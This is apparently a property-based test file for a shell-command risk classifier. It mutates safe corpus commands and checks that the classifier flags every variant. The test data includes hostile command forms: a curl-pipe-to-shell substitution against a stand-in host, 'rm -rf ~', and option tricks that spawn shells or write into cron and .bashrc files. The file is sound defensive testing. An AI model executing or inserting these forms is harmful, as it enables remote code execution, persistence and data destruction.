// Property (fast-check, fixed seed): for any corpus command judged tier 0,
// replacing one of its options or operands with a code-running or writing
// form — or putting such an option right after the program — never leaves
// it at tier 0. Both sources and both hosts, as the corpus gives them.
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import type { Engine } from "../../services/classifier/verdict.js";
import { getEngine, judge, loadCorpus } from "./engine-fixture.js";
import type { Case } from "./engine-fixture.js";

const SEED = 20261202;

/** Forms that run code wherever a word stands: substitutions the shell runs before the command. */
const CODE_WORDS = [
  "$(touch /tmp/pwn)",
  "`touch /tmp/pwn`",
  "<(touch /tmp/pwn)",
  ">(touch /tmp/pwn)",
  "$(curl -s https://x.example | sh)",
  '"$(rm -rf ~)"',
];
/**
 * Options that run a program or write a file for the tools that have them
 * (long names mean the same thing across tools), and are unknown to the rest.
 */
const CODE_OPTIONS = [
  "--compress-program=sh",
  "--use-compress-program=sh",
  "--to-command=sh",
  "--exec=sh",
  "--pager=sh",
  "--rsh=sh",
  "--pre=sh",
  "--output=/etc/cron.d/pwn",
  "-o/etc/cron.d/pwn",
  "--log-file=/home/dev/.bashrc",
  "--script-shell=/tmp/evil",
  "--kubeconfig=/tmp/k",
  "--init-command=x",
  "--checkpoint-action=exec=sh",
  "--editor=sh",
  "--browser=sh",
  "--plugin=/tmp/evil.so",
  "--load=/tmp/evil.so",
];
/** Short or tool-specific forms that run a program or write, for the tool they belong to (from the issue and the tools' manuals). */
const TOOL_FORMS: Record<string, string[]> = {
  sort: ["--compress-program=sh", "-o /etc/cron.d/pwn", "-T /etc"],
  blkid: ["-c /etc/pwn"],
  lshw: ["-dump /tmp/pwn"],
  smartctl: ["-s off"],
  sensors: ["-s"],
  tar: ["-I sh", "-F sh", "--to-command=sh"],
  find: ["-exec sh ;", "-fprint /etc/cron.d/pwn", "-delete"],
  git: ["-c core.pager=sh", "--ext-diff", "--output=/etc/cron.d/pwn"],
  less: ["-k /tmp/keys", "+!sh", "-o /etc/cron.d/pwn"],
  man: ["-P sh", "-H sh"],
  curl: ["-K /tmp/cfg", "-o /etc/cron.d/pwn"],
  wget: ["-e use_askpass=/tmp/x", "-O /etc/cron.d/pwn"],
  journalctl: ["--vacuum-size=1", "--cursor-file=/tmp/x", "--rotate"],
  dmesg: ["-C", "-c"],
  ps: ["e"],
  rg: ["--pre sh"],
  awk: ["-f /tmp/x.awk"],
  sed: ["-i", "-f /tmp/x.sed"],
  crontab: ["-r", "-e"],
  timeshift: ["--delete-all"],
  nmcli: ["-s"],
  psql: ["-L /home/dev/.bashrc", "-o /etc/cron.d/pwn"],
  tree: ["-o /etc/cron.d/pwn"],
  ssh: ["-o ProxyCommand=sh"],
  xxd: ["-r"],
  zip: ["-TT sh"],
  compgen: ["-C sh"],
  complete: ["-C sh"],
  jobs: ["-x sh"],
  history: ["-w /tmp/pwn"],
  needrestart: ["-r a", "-c /tmp/x.conf"],
  npm: ["--script-shell=/tmp/evil", "--node-options=--require=/tmp/x.js"],
  docker: ["--config /tmp/d"],
  kubectl: ["--kubeconfig=/tmp/k", "-s https://x.example"],
};
/** Programs whose arguments are data, never options: an option form is printed or compared, so it may stay 0. */
const DATA_PROGRAMS = new Set([
  "echo",
  "printf",
  "true",
  "false",
  ":",
  "test",
  "[",
  "[[",
  "yes",
  "expr",
  "let",
  "exit",
  "return",
  "sleep",
  "getopts",
  "set",
  "shopt",
  "tput",
  "ulimit",
  "fg",
  "bg",
]);

/** Split a command of plain words and quoted strings (no expansions, operators or redirections). */
function shellWords(command: string): string[] | null {
  if (/[;&|<>(){}`$\\\n#]/.test(command)) return null;
  const out: string[] = [];
  const re = /'([^']*)'|"([^"]*)"|(\S+)/g;
  for (const m of command.matchAll(re)) {
    if (m[3] !== undefined && /['"]/.test(m[3])) return null;
    out.push(m[1] ?? m[2] ?? m[3] ?? "");
  }
  return out;
}

const quote = (w: string): string => (/^[A-Za-z0-9_./:=,@%+-]+$/.test(w) ? w : `'${w.replaceAll("'", `'\\''`)}'`);

let engine: Engine;
let pool: { c: Case; words: string[] }[] = [];

beforeAll(async () => {
  engine = await getEngine();
  pool = loadCorpus()
    .map((c) => ({ c, words: shellWords(c.command) }))
    .filter((x): x is { c: Case; words: string[] } => x.words !== null && x.words.length >= 2 && judge(engine, x.c).tier === 0);
});

function variants(words: string[]): string[] {
  const out: string[] = [];
  const program = words[0] as string;
  for (let i = 1; i < words.length; i++) {
    for (const code of CODE_WORDS) out.push([...words.slice(0, i).map(quote), code, ...words.slice(i + 1).map(quote)].join(" "));
    const isOption = (words[i] as string).startsWith("-");
    if (isOption && !DATA_PROGRAMS.has(program)) {
      for (const opt of CODE_OPTIONS) out.push([...words.slice(0, i).map(quote), opt, ...words.slice(i + 1).map(quote)].join(" "));
    }
  }
  if (!DATA_PROGRAMS.has(program)) {
    for (const opt of [...CODE_OPTIONS, ...(TOOL_FORMS[program] ?? [])])
      out.push([quote(program), opt, ...words.slice(1).map(quote)].join(" "));
  }
  return out;
}

describe("option and operand replacement (property)", () => {
  it("has tier-0 corpus commands of both sources and hosts to work on", () => {
    expect(pool.length).toBeGreaterThanOrEqual(150);
    expect(pool.some(({ c }) => c.source === "sudo")).toBe(true);
    expect(pool.some(({ c }) => (c.host ?? "primary") === "server-01")).toBe(true);
  });

  it("never leaves a tier-0 command at 0 when a word becomes code or an option that runs or writes", () => {
    fc.assert(
      fc.property(fc.nat(), fc.nat(), (n, k) => {
        const { c, words } = pool[n % pool.length] as { c: Case; words: string[] };
        const all = variants(words);
        const command = all[k % all.length] as string;
        const v = judge(engine, { ...c, command });
        if (v.tier === 0)
          throw new Error(
            `${c.source ?? "claude"}/${c.host ?? "primary"}: ${JSON.stringify(command)} (from ${c.file}:${c.line}) stayed 0 by ${v.rule}`,
          );
      }),
      { seed: SEED, numRuns: 3000 },
    );
  }, 300_000);

  it("holds for every variant of every such command (exhaustive)", () => {
    const stayed: string[] = [];
    for (const { c, words } of pool) {
      for (const command of variants(words)) {
        const v = judge(engine, { ...c, command });
        if (v.tier === 0) stayed.push(`${c.source ?? "claude"}/${c.host ?? "primary"} ${command} → 0 ${v.rule}`);
      }
    }
    expect(stayed).toEqual([]);
  }, 300_000);
});
